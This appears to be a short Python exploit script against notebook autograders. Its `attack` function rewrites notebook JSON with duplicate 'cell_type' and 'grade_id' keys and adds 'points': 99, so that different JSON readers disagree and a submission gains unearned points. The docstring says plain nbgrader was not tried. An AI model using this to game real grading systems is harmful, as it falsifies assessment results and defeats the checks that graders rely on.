"""Has cells, metadata and grade ids twice in one JSON object: readers differ in which one they take.

Would gain points where one reader checks and another one runs.

Plain nbgrader: not tried.
"""

import json


def attack(notebook):
    text = json.dumps(notebook)
    text = text.replace('"cell_type": "code"', '"cell_type": "markdown", "cell_type": "code"')
    return text.replace(
        '"grade_id": "dense_check"', '"grade_id": "dense_check", "grade_id": "dense_check", "points": 99'
    )
